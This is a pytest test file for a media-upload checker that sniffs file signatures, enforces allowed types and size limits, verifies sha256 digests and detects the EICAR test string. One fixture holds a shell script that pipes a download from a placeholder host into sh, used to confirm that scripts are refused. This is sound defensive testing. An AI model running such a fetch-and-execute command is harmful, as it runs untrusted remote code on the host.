"""Inbound media checks: kinds, size limits, sniffing, type verdicts, sha256, EICAR."""

from __future__ import annotations

import ast
import base64
import hashlib
import hmac
import itertools
import struct
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from lawhub_actors.core import media
from lawhub_actors.core.media import (
    ALLOWED,
    EICAR,
    EXECUTABLE,
    SNIFF_BYTES,
    EicarScanner,
    MediaKind,
    TypeVerdict,
    base_mime,
    check_type,
    media_kind,
    sha256_matches,
    size_limit,
    sniff,
)

KB = 1024
MB = 1024 * 1024
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"


# --- real magic headers, built by hand -------------------------------------

def ftyp(brand: bytes, *compatible: bytes) -> bytes:
    """An ISO BMFF 'ftyp' box followed by the start of an 'mdat' box."""
    body = b"ftyp" + brand + struct.pack(">I", 0) + b"".join(compatible)
    return struct.pack(">I", 4 + len(body)) + body + struct.pack(">I", 8) + b"mdat"


JPEG = b"\xff\xd8" + b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xdb"
PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">II", 1, 1) + b"\x08\x06"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00"
WEBP = b"RIFF" + struct.pack("<I", 26) + b"WEBPVP8 " + struct.pack("<I", 14) + b"\x30\x01\x00\x9d"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n"
OGG_OPUS = b"OggS\x00\x02" + bytes(8) + b"\x01\x00\x00\x00" + bytes(8) + b"\x01\x13OpusHead\x01\x01"
MP4_ISOM = ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41")
MP4_MP42 = ftyp(b"mp42", b"mp42", b"isom")
THREE_GP = ftyp(b"3gp4", b"3gp4", b"isom")
M4A = ftyp(b"M4A ", b"M4A ", b"mp42", b"isom")
AMR = b"#!AMR\n" + b"\x3c\x91\x17\x16\xbe\x66\x78\x00"
ADTS = b"\xff\xf1\x50\x80\x02\x1f\xfc" + b"\x21\x00"       # AAC LC, 44.1 kHz, stereo, no CRC
ADTS_CRC = b"\xff\xf9\x50\x80\x02\x1f\xfc" + b"\x21\x00"   # MPEG-2 id bit set
ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x23TIT2"
MP3_FRAME = b"\xff\xfb\x90\x64\x00\x00\x00\x00"           # MPEG-1 layer III, 128 kbit/s, 44.1 kHz
ZIP_DOCX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(16) + b"\x13\x00\x00\x00[Content_Types].xml"
OLE2 = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00"
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00"
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"
SHELL = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
TEXT = "Selamat pagi, Pak.\r\n\tTerima kasih — surat kuasa terlampir.\f\n".encode()

SNIFFED = [
    ("jpeg_soi_app0", JPEG, "image/jpeg"),
    ("png_signature", PNG, "image/png"),
    ("gif89a", GIF, "image/gif"),
    ("gif87a", b"GIF87a\x01\x00\x01\x00", "image/gif"),
    ("riff_webp", WEBP, "image/webp"),
    ("pdf_1_7", PDF, "application/pdf"),
    ("oggs_opus", OGG_OPUS, "audio/ogg"),
    ("ftyp_isom", MP4_ISOM, "video/mp4"),
    ("ftyp_mp42", MP4_MP42, "video/mp4"),
    ("ftyp_3gp4", THREE_GP, "video/3gpp"),
    ("ftyp_m4a", M4A, "audio/mp4"),
    ("amr", AMR, "audio/amr"),
    ("adts_fff1", ADTS, "audio/aac"),
    ("adts_fff9", ADTS_CRC, "audio/aac"),
    ("adif", b"ADIF\x00\x00", "audio/aac"),
    ("id3", ID3, "audio/mpeg"),
    ("mpeg_frame_sync", MP3_FRAME, "audio/mpeg"),
    ("mpeg2_layer2_frame_sync", b"\xff\xf4\x80\x00", "audio/mpeg"),
    ("zip_local_header", ZIP_DOCX, "application/zip"),
    ("ole2", OLE2, "application/x-ole-storage"),
    ("elf", ELF, "application/x-executable"),
    ("mz", MZ, "application/x-dosexec"),
    ("mach_o_64", MACHO, "application/x-mach-binary"),
    ("mach_o_fat", b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "application/x-mach-binary"),
    ("shebang_script", SHELL, "text/x-shellscript"),
    ("utf8_text", TEXT, "text/plain"),
]


@pytest.mark.parametrize(("head", "expected"), [(h, e) for _, h, e in SNIFFED],
                         ids=[name for name, _, _ in SNIFFED])
def test_sniff_names_each_signature_by_its_magic_bytes(head: bytes, expected: str) -> None:
    assert sniff(head) == expected


def test_every_executable_signature_is_in_executable() -> None:
    assert {sniff(h) for h in (ELF, MZ, MACHO, SHELL)} == EXECUTABLE


def test_amr_magic_is_audio_not_a_shebang_script() -> None:
    assert sniff(b"#!AMR\n") == "audio/amr"
    assert sniff(b"#!AMR-WB\n") == "audio/amr"
    assert sniff(b"#!/usr/bin/env python3\n") == "text/x-shellscript"


def test_magic_wins_over_text_when_the_head_is_also_valid_utf8() -> None:
    assert sniff(b"%PDF-1.4\n") == "application/pdf"
    assert sniff(b"MZ is how this letter starts") == "application/x-dosexec"


@pytest.mark.parametrize("head", [
    "café".encode()[:-1],                       # é cut in half at the end
    "Rp 1.000.000 ✓".encode()[:-2],             # 3-byte ✓ cut after its first byte
    b"ok" + "😀".encode()[:3],                  # 4-byte emoji cut after 3 bytes
])
def test_text_cut_inside_a_multibyte_character_at_the_end_is_still_text(head: bytes) -> None:
    assert sniff(head) == "text/plain"


@pytest.mark.parametrize("head", [
    b"text with a NUL\x00 inside",
    b"text with an ESC \x1b[31m",
    b"text with a DEL \x7f",
    "text with a C1 control \u0085".encode(),
    b"invalid utf-8 \xc3\x28 in the middle",
    b"\xe9t\xe9 in Latin-1",
    b"\xff\xfeh\x00i\x00",                      # UTF-16 with BOM
])
def test_text_with_controls_or_invalid_utf8_is_not_plain_text(head: bytes) -> None:
    assert sniff(head) is None


def test_empty_head_or_a_lone_cut_character_is_not_evidence_of_text() -> None:
    assert sniff(b"") is None
    assert sniff(b"\xc3") is None


@pytest.mark.parametrize("head", [
    b"\x00\x01\x02\x03\x04\x05\x06\x07",
    b"\xff\xff\xff\xff\xff\xff\xff\xff",        # sync bits set but reserved bitrate/rate values
    b"\xff\xfe\x90\x00",                        # layer I: not taken for MP3
    b"RIFF\x24\x00\x00\x00WAVEfmt ",            # RIFF that is not WEBP
    b"\x00\x00\x00\x18ftyp",                    # ftyp box cut before its brand
])
def test_binary_without_a_known_signature_is_unknown(head: bytes) -> None:
    assert sniff(head) is None


def test_sniff_only_looks_at_the_first_sniff_bytes() -> None:
    head = b"a" * SNIFF_BYTES + b"\x00 beyond the sniffed head"
    assert sniff(head) == "text/plain"
    assert sniff(b"a" * (SNIFF_BYTES - 1) + b"\x00") is None


def test_sniff_accepts_bytearray_and_memoryview() -> None:
    assert sniff(bytearray(PNG)) == "image/png"  # type: ignore[arg-type]
    assert sniff(memoryview(PDF)) == "application/pdf"  # type: ignore[arg-type]


@given(st.binary(max_size=2 * SNIFF_BYTES))
def test_sniff_never_raises_on_arbitrary_bytes(head: bytes) -> None:
    result = sniff(head)
    assert result is None or result in {expected for _, _, expected in SNIFFED}


# --- kinds, mime, allowed --------------------------------------------------

@pytest.mark.parametrize("kind", list(MediaKind))
def test_each_meta_media_type_is_a_media_kind(kind: MediaKind) -> None:
    assert media_kind(kind.value) is kind


@pytest.mark.parametrize("message_type", [
    "text", "location", "contacts", "interactive", "button", "reaction", "order", "system",
    "unsupported", "", "IMAGE", "image ",
])
def test_non_media_message_types_have_no_kind(message_type: str) -> None:
    assert media_kind(message_type) is None


@pytest.mark.parametrize(("declared", "expected"), [
    ("audio/ogg; codecs=opus", "audio/ogg"),
    ("  Image/JPEG  ", "image/jpeg"),
    ("Audio/OGG ; codecs=opus; rate=48000", "audio/ogg"),
    ("application/pdf", "application/pdf"),
    ("", ""),
])
def test_base_mime_drops_parameters_lowercases_and_strips(declared: str, expected: str) -> None:
    assert base_mime(declared) == expected


def test_allowed_is_exactly_metas_supported_types_per_kind() -> None:
    assert dict(ALLOWED) == {
        MediaKind.AUDIO: {"audio/aac", "audio/amr", "audio/mpeg", "audio/mp4", "audio/ogg"},
        MediaKind.DOCUMENT: {"text/plain", "application/pdf", "application/msword",
                             "application/vnd.ms-excel", "application/vnd.ms-powerpoint",
                             DOCX, XLSX, PPTX},
        MediaKind.IMAGE: {"image/jpeg", "image/png"},
        MediaKind.STICKER: {"image/webp"},
        MediaKind.VIDEO: {"video/mp4", "video/3gpp"},
    }


def test_allowed_cannot_be_modified() -> None:
    with pytest.raises(TypeError):
        ALLOWED[MediaKind.IMAGE] = frozenset({"image/gif"})  # type: ignore[index]


# --- check_type ------------------------------------------------------------

SAMPLE = {  # a real head for every allowed type
    "audio/aac": ADTS, "audio/amr": AMR, "audio/mpeg": ID3, "audio/mp4": M4A, "audio/ogg": OGG_OPUS,
    "text/plain": TEXT, "application/pdf": PDF, "application/msword": OLE2,
    "application/vnd.ms-excel": OLE2, "application/vnd.ms-powerpoint": OLE2,
    DOCX: ZIP_DOCX, XLSX: ZIP_DOCX, PPTX: ZIP_DOCX,
    "image/jpeg": JPEG, "image/png": PNG, "image/webp": WEBP,
    "video/mp4": MP4_ISOM, "video/3gpp": THREE_GP,
}


@pytest.mark.parametrize(("kind", "declared"),
                         [(k, m) for k in MediaKind for m in sorted(ALLOWED[k])])
def test_every_allowed_type_with_its_real_bytes_is_accepted(kind: MediaKind, declared: str) -> None:
    assert check_type(kind, declared, SAMPLE[declared]) == TypeVerdict(True, None, sniff(SAMPLE[declared]))


@pytest.mark.parametrize(("kind", "declared", "head"), [
    (MediaKind.AUDIO, "audio/ogg; codecs=opus", OGG_OPUS),   # a WhatsApp voice note
    (MediaKind.AUDIO, "audio/mpeg", MP3_FRAME),              # MP3 without an ID3 tag
    (MediaKind.AUDIO, "audio/aac", ADTS_CRC),
    (MediaKind.AUDIO, "audio/mp4", MP4_ISOM),                # audio/mp4 takes any ISO BMFF brand
    (MediaKind.DOCUMENT, "application/pdf", PDF),
    (MediaKind.DOCUMENT, DOCX, ZIP_DOCX),
    (MediaKind.DOCUMENT, "text/plain; charset=utf-8", TEXT),
    (MediaKind.IMAGE, "IMAGE/JPEG", JPEG),
    (MediaKind.VIDEO, "video/mp4", MP4_MP42),
])
def test_declared_type_matching_the_real_bytes_is_accepted(
    kind: MediaKind, declared: str, head: bytes,
) -> None:
    verdict = check_type(kind, declared, head)
    assert verdict.ok and verdict.reason is None


def test_voice_note_verdict_reports_what_was_sniffed() -> None:
    assert check_type(MediaKind.AUDIO, "audio/ogg; codecs=opus", OGG_OPUS) == TypeVerdict(
        ok=True, reason=None, sniffed="audio/ogg")


@pytest.mark.parametrize(("declared", "head", "sniffed"), [
    ("application/pdf", ELF, "application/x-executable"),
    ("application/pdf", MZ, "application/x-dosexec"),
    ("application/pdf", MACHO, "application/x-mach-binary"),
    ("text/plain", SHELL, "text/x-shellscript"),
    ("application/x-msdownload", MZ, "application/x-dosexec"),  # executable wins over not-allowed
])
def test_executables_and_scripts_are_refused_whatever_was_declared(
    declared: str, head: bytes, sniffed: str,
) -> None:
    assert check_type(MediaKind.DOCUMENT, declared, head) == TypeVerdict(False, "executable", sniffed)


@pytest.mark.parametrize(("kind", "declared", "head"), [
    (MediaKind.IMAGE, "image/gif", GIF),
    (MediaKind.IMAGE, "image/webp", WEBP),            # webp is for stickers only
    (MediaKind.STICKER, "image/png", PNG),
    (MediaKind.AUDIO, "video/mp4", MP4_ISOM),
    (MediaKind.DOCUMENT, "application/zip", ZIP_DOCX),
    (MediaKind.DOCUMENT, "image/jpeg", JPEG),
    (MediaKind.VIDEO, "video/quicktime", MP4_ISOM),
    (MediaKind.IMAGE, "", JPEG),
])
def test_declared_type_not_supported_for_the_kind_is_refused(
    kind: MediaKind, declared: str, head: bytes,
) -> None:
    verdict = check_type(kind, declared, head)
    assert (verdict.ok, verdict.reason) == (False, "type_not_allowed")


@pytest.mark.parametrize(("kind", "declared", "head"), [
    (MediaKind.IMAGE, "image/jpeg", PNG),
    (MediaKind.IMAGE, "image/png", GIF),
    (MediaKind.DOCUMENT, "application/pdf", TEXT),
    (MediaKind.DOCUMENT, "application/pdf", ZIP_DOCX),
    (MediaKind.DOCUMENT, "text/plain", PDF),
    (MediaKind.DOCUMENT, "text/plain", ZIP_DOCX),
    (MediaKind.DOCUMENT, DOCX, OLE2),                 # OOXML is a ZIP, not OLE2
    (MediaKind.DOCUMENT, "application/msword", ZIP_DOCX),
    (MediaKind.AUDIO, "audio/mpeg", OGG_OPUS),
    (MediaKind.AUDIO, "audio/ogg", M4A),
    (MediaKind.VIDEO, "video/mp4", M4A),              # only audio/mp4 is lenient about brands
    (MediaKind.VIDEO, "video/3gpp", MP4_ISOM),
    (MediaKind.STICKER, "image/webp", PNG),
])
def test_real_bytes_of_another_type_than_declared_are_a_mismatch(
    kind: MediaKind, declared: str, head: bytes,
) -> None:
    verdict = check_type(kind, declared, head)
    assert (verdict.ok, verdict.reason, verdict.sniffed) == (False, "type_mismatch", sniff(head))


@pytest.mark.parametrize(("kind", "declared", "head"), [
    (MediaKind.IMAGE, "image/jpeg", b"\x00\x01\x02\x03garbage"),
    (MediaKind.DOCUMENT, "text/plain", b""),
    (MediaKind.VIDEO, "video/mp4", b"\x00\x00\x00\x18ftyp"),
])
def test_bytes_with_no_recognisable_type_are_refused_as_unrecognised(
    kind: MediaKind, declared: str, head: bytes,
) -> None:
    assert check_type(kind, declared, head) == TypeVerdict(False, "unrecognised", None)


@given(kind=st.sampled_from(MediaKind), declared=st.text(max_size=40),
       head=st.binary(max_size=SNIFF_BYTES))
def test_check_type_never_raises_and_reason_is_none_exactly_when_ok(
    kind: MediaKind, declared: str, head: bytes,
) -> None:
    verdict = check_type(kind, declared, head)
    assert (verdict.reason is None) == verdict.ok
    assert verdict.reason in {None, "type_not_allowed", "executable", "type_mismatch", "unrecognised"}
    assert verdict.sniffed == sniff(head)


def test_type_verdict_is_frozen() -> None:
    verdict = check_type(MediaKind.IMAGE, "image/png", PNG)
    with pytest.raises(AttributeError):
        verdict.ok = False  # type: ignore[misc]


# --- size limits -----------------------------------------------------------

@pytest.mark.parametrize(("kind", "expected"), [
    (MediaKind.AUDIO, 16 * MB),
    (MediaKind.DOCUMENT, 100 * MB),
    (MediaKind.IMAGE, 5 * MB),
    (MediaKind.STICKER, 100 * KB),
    (MediaKind.VIDEO, 16 * MB),
])
def test_size_limit_is_metas_maximum_per_kind_in_binary_units(kind: MediaKind, expected: int) -> None:
    assert size_limit(kind) == expected


def test_animated_sticker_may_be_500_kb() -> None:
    assert size_limit(MediaKind.STICKER, animated=True) == 500 * KB


@pytest.mark.parametrize("kind", [k for k in MediaKind if k is not MediaKind.STICKER])
def test_animated_flag_only_changes_the_sticker_limit(kind: MediaKind) -> None:
    assert size_limit(kind, animated=True) == size_limit(kind)


def test_cap_lowers_a_limit_but_never_raises_it() -> None:
    assert size_limit(MediaKind.DOCUMENT, cap=20 * MB) == 20 * MB
    assert size_limit(MediaKind.IMAGE, cap=20 * MB) == 5 * MB
    assert size_limit(MediaKind.STICKER, animated=True, cap=200 * KB) == 200 * KB
    assert size_limit(MediaKind.VIDEO, cap=0) == 0


def test_negative_cap_is_a_configuration_error() -> None:
    with pytest.raises(ValueError, match="cap"):
        size_limit(MediaKind.AUDIO, cap=-1)


# --- sha256 ----------------------------------------------------------------

DIGEST = bytes([0xFB, 0xFF] * 16)  # base64 of it uses '+' and '/' (urlsafe: '-' and '_')


def encodings(digest: bytes) -> list[str]:
    std, url = base64.b64encode(digest).decode(), base64.urlsafe_b64encode(digest).decode()
    return [digest.hex(), digest.hex().upper(), std, std.rstrip("="), url, url.rstrip("=")]


def test_sha256_given_as_hex_or_base64_of_any_flavour_matches() -> None:
    assert "+" in encodings(DIGEST)[2] and "_" in encodings(DIGEST)[4]
    for expected in encodings(DIGEST):
        assert sha256_matches(expected, DIGEST), expected


def test_sha256_of_real_content_as_meta_sends_it_matches() -> None:
    content = b"%PDF-1.7 surat kuasa"
    digest = hashlib.sha256(content).digest()
    assert sha256_matches(hashlib.sha256(content).hexdigest(), digest)                  # GET /{media-id}
    assert sha256_matches(base64.b64encode(hashlib.sha256(content).digest()).decode(), digest)  # webhook


def test_sha256_of_other_content_does_not_match() -> None:
    other = hashlib.sha256(b"other").digest()
    for expected in encodings(DIGEST):
        assert not sha256_matches(expected, other)


@pytest.mark.parametrize("expected", [
    "", DIGEST.hex()[:-1], DIGEST.hex() + "0", DIGEST.hex()[:-1] + "g", " " + DIGEST.hex(),
    DIGEST.hex() + "\n", "sha256=" + DIGEST.hex(), DIGEST.hex()[:32] + " " + DIGEST.hex()[32:],
    base64.b64encode(DIGEST[:31]).decode(), base64.b64encode(DIGEST + b"\x00").decode(),
    base64.b64encode(DIGEST).decode() + "=",
    base64.b64encode(DIGEST).decode()[:10] + "_" + base64.b64encode(DIGEST).decode()[11:],  # mixed
    base64.b64encode(DIGEST).decode()[:42] + "/",      # non-zero unused bits: not canonical
    "٠" * 64,                                           # Arabic-Indic digits are not hex
])
def test_malformed_sha256_never_matches(expected: str) -> None:
    assert not sha256_matches(expected, DIGEST)


def test_digest_of_the_wrong_length_never_matches() -> None:
    assert not sha256_matches(DIGEST.hex(), DIGEST[:31])
    assert not sha256_matches(DIGEST.hex(), DIGEST.hex().encode())


def test_sha256_comparison_is_constant_time(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[bytes, bytes]] = []
    real = hmac.compare_digest

    def spy(a: bytes, b: bytes) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(hmac, "compare_digest", spy)
    assert sha256_matches(DIGEST.hex(), DIGEST)
    assert calls == [(DIGEST, DIGEST)]


@given(st.binary(min_size=32, max_size=32), st.binary(min_size=32, max_size=32))
def test_every_encoding_of_a_digest_matches_it_and_no_other(digest: bytes, other: bytes) -> None:
    assume(digest != other)
    for expected in encodings(digest):
        assert sha256_matches(expected, digest)
        assert not sha256_matches(expected, other)


@given(st.text(max_size=80), st.binary(max_size=40))
def test_sha256_matches_never_raises(expected: str, digest: bytes) -> None:
    assert sha256_matches(expected, digest) in (True, False)


# --- EICAR -----------------------------------------------------------------

def chunked(data: bytes, cuts: list[int]) -> list[bytes]:
    bounds = [0, *sorted(c % (len(data) + 1) for c in cuts), len(data)]
    return [data[a:b] for a, b in itertools.pairwise(bounds)]


def scan(chunks: list[bytes]) -> bool:
    scanner = EicarScanner()
    for chunk in chunks:
        scanner.feed(chunk)
    return scanner.found


def test_eicar_is_the_68_byte_standard_test_string() -> None:
    assert len(EICAR) == 68
    assert hashlib.md5(EICAR).hexdigest() == "44d88612fea8a8f36de82e1278abb02f"


def test_fresh_scanner_has_found_nothing() -> None:
    assert not EicarScanner().found


def test_eicar_fed_in_one_chunk_is_found() -> None:
    assert scan([EICAR])


def test_eicar_fed_one_byte_at_a_time_is_found() -> None:
    assert scan([EICAR[i : i + 1] for i in range(len(EICAR))])


def test_eicar_with_one_byte_changed_is_not_found() -> None:
    near_miss = EICAR[:-1] + b"!"
    assert not scan([near_miss, near_miss])
    assert not scan([EICAR[:34], b"x", EICAR[34:]])


def test_found_stays_true_after_more_data() -> None:
    scanner = EicarScanner()
    scanner.feed(b"junk" + EICAR[:40])
    scanner.feed(EICAR[40:])
    scanner.feed(b"clean data" * 100)
    scanner.feed(b"")
    assert scanner.found


def test_scanner_keeps_at_most_len_eicar_minus_one_bytes_between_chunks() -> None:
    scanner = EicarScanner()
    scanner.feed(b"a" * 10_000)
    assert len(scanner._tail) == len(EICAR) - 1


@given(prefix=st.binary(max_size=300), suffix=st.binary(max_size=300),
       cuts=st.lists(st.integers(min_value=0), max_size=12))
def test_eicar_is_found_at_any_offset_whatever_the_chunking(
    prefix: bytes, suffix: bytes, cuts: list[int],
) -> None:
    assert scan(chunked(prefix + EICAR + suffix, cuts))


@given(data=st.binary(max_size=2000), cuts=st.lists(st.integers(min_value=0), max_size=12))
def test_eicar_is_never_found_in_data_without_it(data: bytes, cuts: list[int]) -> None:
    assume(EICAR not in data)
    assert not scan(chunked(data, cuts))


@given(cuts=st.lists(st.integers(min_value=0), max_size=12))
def test_a_near_miss_eicar_is_never_found_whatever_the_chunking(cuts: list[int]) -> None:
    data = EICAR[:-1] + b" " + EICAR[1:]   # every 67-byte piece of EICAR, never all 68
    assert not scan(chunked(data, cuts))


# --- purity ----------------------------------------------------------------

PURE_IMPORTS = {"__future__", "base64", "codecs", "collections.abc", "dataclasses", "enum", "hmac",
                "re", "types", "typing"}


def test_media_module_imports_nothing_that_does_io() -> None:
    tree = ast.parse(Path(media.__file__).read_text(encoding="utf-8"))
    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import)
                for alias in node.names}
    imported |= {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
    assert imported <= PURE_IMPORTS
